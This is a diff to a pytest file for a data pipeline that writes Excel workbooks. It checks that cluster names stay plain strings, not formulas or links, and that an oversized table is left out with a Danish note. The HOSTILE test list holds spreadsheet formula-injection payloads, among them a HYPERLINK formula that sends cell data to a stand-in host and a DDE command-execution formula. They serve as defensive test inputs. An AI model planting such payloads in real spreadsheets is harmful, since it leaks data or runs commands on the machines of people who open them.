@@ -12,7 +12,15 @@ from kvis_pipeline.publish.labels import ABOUT_SHEET, SHEET_NAMES
 from kvis_pipeline.publish.workbook import describe, write_workbook
 
 REPO = Path(__file__).parents[2]
-HOSTILE = ['=HYPERLINK("http://x.example/?"&A1, "klik")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]
+HOSTILE = [
+    '=HYPERLINK("http://x.example/?"&A1, "klik")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "https://x.example/",
+    "0042",
+]
 
 
 @pytest.fixture
@@ -61,7 +69,8 @@ def test_texts_stay_texts_shares_are_percentages_and_hidden_cells_are_empty(publ
     rows = [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]
     names = [row["cluster_name"] for row in rows]
     assert [c.value for c in names] == HOSTILE + ["Klynge 9"]  # rows in key order, every text verbatim
-    assert all(c.data_type == "s" for c in names)  # a string cell, not a formula ('f')
+    assert all(c.data_type == "s" for c in names)  # a string cell, not a formula ('f') nor a number
+    assert all(c.hyperlink is None for c in names)
     shown = next(row for row in rows if row["cluster_id"].value == 1)
     assert shown["share_positive"].value == 0.64 and shown["share_positive"].number_format == "0.0%"
     assert shown["wave_start"].is_date
@@ -85,14 +94,14 @@ def test_every_published_table_and_column_is_described_in_danish():
 
 
 def test_a_mart_larger_than_a_sheet_is_left_out_whole_and_the_describing_sheet_says_where_it_is(publication, tmp_path):
-    # six rows and a header do not fit a sheet of six rows; Excel's own limit is 1 048 576
-    workbook = openpyxl.load_workbook(write_workbook(publication, tmp_path / "kvis.xlsx", sheet_rows=6))
+    # eight rows and a header do not fit a sheet of eight rows; Excel's own limit is 1 048 576
+    workbook = openpyxl.load_workbook(write_workbook(publication, tmp_path / "kvis.xlsx", sheet_rows=8))
     assert workbook.sheetnames == [ABOUT_SHEET, SHEET_NAMES["load_summary"]]
     about = {row[1]: row for row in workbook[ABOUT_SHEET].iter_rows(values_only=True) if row[1] and not row[2]}
     sheet, _, _, _, description = about["cluster_results"]
     assert sheet is None
     assert description.endswith(
-        "Tabellen har 6 rækker, flere end et Excel-ark kan rumme, og er derfor ikke med i denne projektmappe; "
+        "Tabellen har 8 rækker, flere end et Excel-ark kan rumme, og er derfor ikke med i denne projektmappe; "
         "den findes i parquet/cluster_results.parquet og i kvis.duckdb."
     )
     assert about["load_summary"][0] == SHEET_NAMES["load_summary"]
